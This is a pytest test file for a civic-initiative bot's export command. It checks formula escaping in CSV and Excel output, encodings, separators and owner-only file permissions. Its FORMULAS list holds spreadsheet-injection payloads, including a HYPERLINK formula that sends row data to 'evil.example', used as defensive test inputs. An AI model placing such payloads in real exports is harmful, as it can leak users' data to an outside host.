"""`export`: CSV no spreadsheet runs as formulas, a form Dutch Excel opens in columns,
help wanted in words, and a file only its owner can read."""

import csv
import io
import json
import stat
from pathlib import Path

import pytest
from sqlalchemy import update

from bot.cli import admin
from bot.cli.export import Format
from bot.config.names import Names
from storage.db import Database
from storage.models import Initiative
from tests.town import Town

# Cells a spreadsheet would run: a link that sends the other rows away, a sum, a DDE call.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?d="&A3&B3;"klik")',
    "+1+1",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
)


def exported(db: Database, names: Names, form: Format, personal: bool = False) -> str:
    out = io.StringIO()
    admin.export(db, names, form, None, out, io.StringIO(), personal)
    return out.getvalue()


def entitle(db: Database, reference: str, title: str, description: str) -> None:
    with db.transaction() as session:
        session.execute(
            update(Initiative)
            .where(Initiative.reference == reference)
            .values(title=title, description=description)
        )


@pytest.mark.parametrize("form", ["csv", "excel"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_starts_a_formula_is_kept_as_text(
    town: Town, db: Database, names: Names, form: Format, formula: str
) -> None:
    reference = town.submit("bewoner")
    entitle(db, reference, formula, "Gewoon een bankje = fijn")
    text = exported(db, names, form, personal=True).removeprefix("\ufeff")
    [row] = csv.DictReader(io.StringIO(text, newline=""), delimiter=";" if form == "excel" else ",")
    assert row["title"] == "'" + formula
    assert row["description"] == "Gewoon een bankje = fijn"  # only a cell's start matters
    assert row["contact"] == "'+31612345678"  # a phone number stays text, + and all


def test_json_keeps_the_words_as_they_are(town: Town, db: Database, names: Names) -> None:
    reference = town.submit("bewoner")
    entitle(db, reference, FORMULAS[0], "")
    [record] = json.loads(exported(db, names, "json"))
    assert record["title"] == FORMULAS[0]


def test_plain_csv_is_for_scripts(town: Town, db: Database, names: Names) -> None:
    reference = town.submit("bewoner")
    entitle(db, reference, "Picknickbank, één per straat", "Eerste regel\rtweede regel")
    text = exported(db, names, "csv")
    data = text.encode("utf-8")
    assert data.startswith(b"reference,title,")
    assert data.count(b"\n") == 2
    assert "één".encode() in data
    [row] = csv.DictReader(io.StringIO(text, newline=""))  # a lone CR cannot end a row
    assert row["description"] == "Eerste regel\rtweede regel"


def test_excel_gets_semicolons_a_byte_order_mark_and_crlf(
    town: Town, db: Database, names: Names, tmp_path: Path
) -> None:
    reference = town.submit("bewoner")
    entitle(db, reference, "Geen idee; wel een plan", "Een ë, een é en een ü")
    target = tmp_path / "initiatieven.csv"
    admin.export(db, names, "excel", target, io.StringIO(), io.StringIO())
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfreference;title;description;")
    lines = data.split(b"\r\n")
    assert len(lines) == 3  # the header, one initiative, and nothing after the last CRLF
    assert lines[-1] == b""
    assert b"\n" not in data.replace(b"\r\n", b"")
    assert "Een ë, een é en een ü".encode() in lines[1]
    assert b'"Geen idee; wel een plan"' in lines[1]  # a semicolon in a cell is quoted


def test_help_wanted_is_exported_in_dutch_like_area_and_theme(
    town: Town, db: Database, names: Names
) -> None:
    town.submit("bewoner")  # help: 1, 3
    [record] = json.loads(exported(db, names, "json"))
    assert record["help_wanted"] == ["Advies", "Vergunning"]
    [row] = csv.DictReader(io.StringIO(exported(db, names, "csv")))
    assert row["help_wanted"] == "Advies; Vergunning"


def test_an_export_file_is_created_for_its_owner_alone(
    town: Town, db: Database, names: Names, tmp_path: Path
) -> None:
    town.submit("bewoner")
    target = tmp_path / "met-gegevens.json"
    admin.export(db, names, "json", target, io.StringIO(), io.StringIO(), True)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert json.loads(target.read_text(encoding="utf-8"))[0]["name"] == "Anna de Vries"


def test_an_existing_file_is_narrowed_before_the_export_goes_in(
    town: Town, db: Database, names: Names, tmp_path: Path
) -> None:
    town.submit("bewoner")
    target = tmp_path / "gedeeld.csv"
    target.write_text("oud\n", encoding="utf-8")
    target.chmod(0o644)
    admin.export(db, names, "csv", target, io.StringIO(), io.StringIO(), True)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert target.read_text(encoding="utf-8").startswith("reference,")


def test_a_folder_that_is_not_there_is_named(db: Database, names: Names, tmp_path: Path) -> None:
    target = tmp_path / "bestaat-niet" / "export.json"
    with pytest.raises(admin.AdminError) as caught:
        admin.export(db, names, "json", target, io.StringIO(), io.StringIO())
    message = str(caught.value)
    assert "\n" not in message
    assert f"there is no folder {tmp_path / 'bestaat-niet'}" in message
